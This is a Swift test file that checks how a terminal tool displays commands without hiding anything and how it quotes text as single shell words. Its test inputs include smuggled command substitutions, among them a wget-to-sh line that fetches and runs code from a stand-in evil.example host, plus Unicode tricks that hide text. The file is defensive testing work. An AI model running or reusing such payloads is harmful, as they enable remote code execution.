import ReaderShell
import Testing

/// Tests of commands as they are shown before they run: TerminalText.command(_:), String.quotedForShell.
@Suite struct CommandTextTests {
    @Test(arguments: [
        (
            "curl https://$(wget${IFS}-qO-${IFS}evil.example|sh)@example.org/feed",
            "curl https://$(wget${IFS}-qO-${IFS}evil.example|sh)@example.org/feed"
        ),
        ("echo a:$(id)@b  c", "echo a:$(id)@b  c"), ("ok # daily\nevil\tx", "ok # daily⟨line break⟩evil⟨tab⟩x"),
        ("a\u{9D}b\u{9C}c", "a⟨U+009D⟩b⟨U+009C⟩c"), ("a\u{202E}b\u{A0}c", "a⟨U+202E⟩b⟨U+00A0⟩c"),
        ("a\u{338}\u{E0041}", "a⟨U+0338⟩⟨U+E0041⟩"), ("a⟨tab⟩", "a⟨U+27E8⟩tab⟨U+27E9⟩"),
        ("echo 'Käse 東京'", "echo 'Käse 東京'"),
    ])
    func nothingOfACommandIsRemovedOrHidden(command: String, shown: String) {
        #expect(TerminalText.command(command) == shown)
        #expect(TerminalText.block(shown) == shown)
    }

    @Test(arguments: [
        ("it's", #"'it'\''s'"#), (#"a\b"#, #"'a\b'"#), ("", "''"),
        ("a\u{301}'\u{301};id", #"$'a\314\201\'\314\201;id'"#),
        ("a\nb\tc", #"$'a\nb\tc'"#), ("\u{A0}1\\", #"$'\302\2401\\'"#),
    ])
    func aWordOfTheShellIsOneWordWhateverIsInIt(text: String, word: String) {
        #expect(Array(text.quotedForShell.utf8) == Array(word.utf8))
    }
}
